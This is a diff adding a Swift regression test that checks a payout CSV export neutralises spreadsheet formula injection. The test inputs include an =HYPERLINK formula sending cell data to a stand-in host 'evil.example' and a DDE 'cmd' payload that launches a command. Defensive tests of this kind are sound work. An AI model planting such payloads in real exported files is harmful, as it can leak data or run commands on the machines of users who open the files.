@@ -100,4 +100,24 @@ import TestSupport
         let rows = CSV.lines(csv).dropFirst().filter { !$0.isEmpty }.map(CSV.fields)
         #expect(rows.first?[4] == #"USDC 0xabc, memo "nov""#, "the quoted cell reads back")
     }
+
+    /// Issue 24: a reference `=HYPERLINK(…)` or an account name `@SUM(A1)` was written verbatim, and a spreadsheet
+    /// opening the payout file ran it.
+    @Test func theManualFileNeutralisesFormulas() throws {
+        let cases = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")", "@SUM(A1)", "+1+1", "-2+3+cmd|' /C calc'!A0", "\tTAB", "'=already quoted"]
+        for (index, text) in cases.enumerated() {
+            let settings = try PayoutSettings(method: .manual(reference: text), accountName: text, minimum: 1, currency: Self.eur, taxCountry: "US")
+            let payout = try #require(PayoutRun.plan(currency: Self.eur, candidates: [PayoutRun.Candidate(artist: "amy", balance: 5_000, settings: settings)],
+                                                     rates: Self.rates).payouts.first)
+            let csv = try ManualPayoutFile.file(run: Self.run, payouts: [(number: 1, payout: payout)], createdAt: 0, debtor: nil)
+            func neutralised(_ text: String) -> String { "\"'" + text.replacingOccurrences(of: "\"", with: "\"\"") + "\"" }
+            let line = String(csv.dropFirst(ManualPayoutFile.header.count + 1))
+            #expect(line == "2026-11-EUR,1,amy,\(neutralised(text)),\(neutralised(text)),EUR,35.00,3500,1500,US\r\n",
+                    "case \(index): \(line)")
+            #expect(csv.hasPrefix(ManualPayoutFile.header + "\r\n"))
+            let cells = CSV.fields(CSV.lines(line)[0])
+            #expect(cells[3] == "'" + text && cells[4] == "'" + text, "case \(index): a spreadsheet shows the text")
+            #expect(CSVCell.decode(cells[4]) == text, "case \(index): reading it back is exact")
+        }
+    }
 }
